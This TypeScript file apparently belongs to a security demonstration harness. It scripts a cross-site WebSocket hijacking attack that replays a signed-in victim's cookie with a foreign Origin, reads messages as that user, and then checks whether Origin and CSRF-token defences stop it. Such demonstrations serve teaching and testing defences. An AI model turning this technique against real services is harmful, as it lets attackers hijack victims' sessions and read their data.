import { PLAIN_SUBPROTOCOL } from '../../protocol/subprotocols.ts';
import type { Attack, Scene } from './attack.ts';
import { inWords, open, outcome } from './support/socket.ts';
import { signIn } from './support/victim.ts';

/**
 * Cross-site WebSocket hijacking. This script plays the victim's browser, too: it adds the cookie to a handshake that
 * the attacker's page started, as a browser does. The page at /hijack has a real browser do it.
 */
export const attack: Attack = {
  name: 'hijack',
  async run(scene) {
    const { target, fixed, tell } = scene;
    const twins = new URL('/', target.twin('/').replace(/^ws/, 'http')).href;
    const servers = fixed ? [twins, target.page] : [twins];
    const victims = await Promise.all(servers.map((page) => signIn(scene, 'alice', page)));
    // A browser's cookies know no ports: it sends those of both servers to either.
    const cookie = victims.map((victim) => victim.cookie).join('; ');
    tell('victim', 'is signed in as alice; the browser keeps the cookie');
    // What the attacker's page can make the browser send: it cannot read the CSRF token, nor change the Origin.
    const ridden = { Cookie: cookie, Origin: new URL(target.exhibits).origin };
    tell('attacker', `has the victim open a page of ${ridden.Origin}, which opens a WebSocket`);
    if (!fixed) return readsEcho(scene, target.twin('/hijack'), ridden);

    const attempts = [
      ['Origin check alone', target.twin('/hijack/origin'), ridden],
      ['CSRF token alone', target.twin('/hijack/csrf'), ridden],
      ['both, on the real server', target.method('cookie'), ridden],
      ['both, a script with forged Origin', target.method('cookie'), { Origin: new URL(target.page).origin }],
    ] as const;
    let succeeded = false;
    for (const [what, url, headers] of attempts) {
      const socket = await open(scene, url, { protocols: [PLAIN_SUBPROTOCOL], headers });
      tell('server', `${what}: ${outcome(socket)}`);
      succeeded ||= socket.opened;
    }
    return succeeded;
  },
};

async function readsEcho(scene: Scene, url: string, headers: Record<string, string>): Promise<boolean> {
  const socket = await open(scene, url, { protocols: [PLAIN_SUBPROTOCOL], headers });
  scene.tell('server', `sees a good cookie: ${outcome(socket)}`);
  if (!socket.opened) return false;
  socket.send({ msg: 'what does alice see?' });
  const event = await socket.next();
  scene.tell('attacker', `speaks as alice and reads ${inWords(event)}`);
  return event.type === 'message';
}
